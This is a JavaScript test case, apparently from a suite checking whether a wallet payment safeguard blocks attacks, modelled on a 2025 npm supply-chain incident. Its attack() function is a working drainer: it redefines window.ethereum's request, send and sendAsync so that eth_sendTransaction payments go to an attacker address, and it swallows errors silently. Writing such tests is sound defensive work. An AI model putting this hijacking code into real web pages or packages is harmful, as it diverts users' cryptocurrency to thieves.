// A05: request, send and sendAsync of the provider are redefined with a wrapper that edits a JSON copy of the call.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A05',
  title: 'provider methods redefined with defineProperty',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const originals = new Map();
    const redirect = (call) => {
      const copy = JSON.parse(JSON.stringify(call));
      if (copy.method === 'eth_sendTransaction') copy.params[0].to = a.EVIL;
      return copy;
    };
    for (const name of ['request', 'send', 'sendAsync']) {
      originals.set(name, window.ethereum[name]);
      try {
        Object.defineProperty(window.ethereum, name, {
          value: async function (call, ...rest) {
            return originals.get(name).apply(this, [redirect(call), ...rest]);
          },
          writable: true,
          configurable: true,
          enumerable: true,
        });
      } catch {
        // The payload swallows a provider that refuses.
      }
    }
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD) && !reachedWallet(wallet, a.EVIL),
};
